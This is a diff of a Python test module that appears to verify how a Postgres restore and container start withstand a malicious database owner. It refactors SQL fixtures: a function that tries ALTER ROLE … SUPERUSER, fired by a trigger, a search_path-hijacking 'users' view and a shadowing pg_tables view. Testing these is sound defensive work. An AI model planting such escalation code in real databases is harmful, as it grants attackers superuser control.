@@ -47,11 +47,9 @@ END $$;
 UNDO_RUNS_AT_RESTORE = ("DROP TABLE IF EXISTS public.planted; "
                         "DROP FUNCTION IF EXISTS public.planted_check(integer)")
 
-# Runs when the restore counts the users or gives the cache a new namespace: a trigger on
-# cache_namespace, and for whoever logs in as `postgres`, a view `users` in a schema of that
-# name (first on the default search_path "$user", public). Each run notes its role; the
-# escalation's failure is swallowed, so that the restore itself goes on.
-RUNS_AFTER_RESTORE = f"""
+# What the two attacks below run: it notes the role it runs as and tries to make the owner a
+# superuser; its failure is swallowed, so that whatever called it goes on.
+ESCALATES = f"""
 CREATE TABLE public.planted_seen (who name);
 CREATE FUNCTION public.planted_escalate() RETURNS boolean LANGUAGE plpgsql AS $$
 BEGIN
@@ -62,6 +60,14 @@ BEGIN
     END;
     RETURN true;
 END $$;
+"""
+UNDO_ESCALATES = ("DROP FUNCTION IF EXISTS public.planted_escalate(); "
+                  "DROP TABLE IF EXISTS public.planted_seen")
+
+# Runs when the restore counts the users or gives the cache a new namespace: a trigger on
+# cache_namespace, and for whoever logs in as `postgres`, a view `users` in a schema of that
+# name (first on the default search_path "$user", public).
+RUNS_AFTER_RESTORE = ESCALATES + """
 CREATE FUNCTION public.planted_trigger() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN
     PERFORM public.planted_escalate();
@@ -75,8 +81,7 @@ CREATE VIEW postgres.users AS SELECT * FROM public.users WHERE public.planted_es
 UNDO_RUNS_AFTER_RESTORE = (
     "DROP SCHEMA IF EXISTS postgres CASCADE; "
     "DROP TRIGGER IF EXISTS planted ON public.cache_namespace; "
-    "DROP FUNCTION IF EXISTS public.planted_trigger(), public.planted_escalate(); "
-    "DROP TABLE IF EXISTS public.planted_seen")
+    "DROP FUNCTION IF EXISTS public.planted_trigger(); " + UNDO_ESCALATES)
 
 
 def superuser_effects(postgres: Container) -> list[str]:
@@ -132,22 +137,13 @@ def test_what_the_owner_planted_runs_after_a_restore_as_the_owner_only(
 
 # Runs when a superuser session in the database reads `pg_tables`, as the Postgres container's
 # start does: the owner may set its database's default search_path, and puts a view first.
-RUNS_AT_START = f"""
-CREATE FUNCTION public.planted_at_start() RETURNS boolean LANGUAGE plpgsql AS $$
-BEGIN
-    BEGIN
-        ALTER ROLE {DB_OWNER} SUPERUSER;
-    EXCEPTION WHEN insufficient_privilege THEN NULL;
-    END;
-    RETURN true;
-END $$;
+RUNS_AT_START = ESCALATES + f"""
 CREATE VIEW public.pg_tables AS  -- OFFSET 0: no condition of the reader's is checked first
-    SELECT * FROM pg_catalog.pg_tables WHERE public.planted_at_start() OFFSET 0;
+    SELECT * FROM pg_catalog.pg_tables WHERE public.planted_escalate() OFFSET 0;
 ALTER DATABASE {DB_NAME} SET search_path = public, pg_catalog;
 """
 UNDO_RUNS_AT_START = (f"ALTER DATABASE {DB_NAME} RESET search_path; "
-                      "DROP VIEW IF EXISTS public.pg_tables; "
-                      "DROP FUNCTION IF EXISTS public.planted_at_start()")
+                      "DROP VIEW IF EXISTS public.pg_tables; " + UNDO_ESCALATES)
 START_DEADLINE_S = 120
 
 
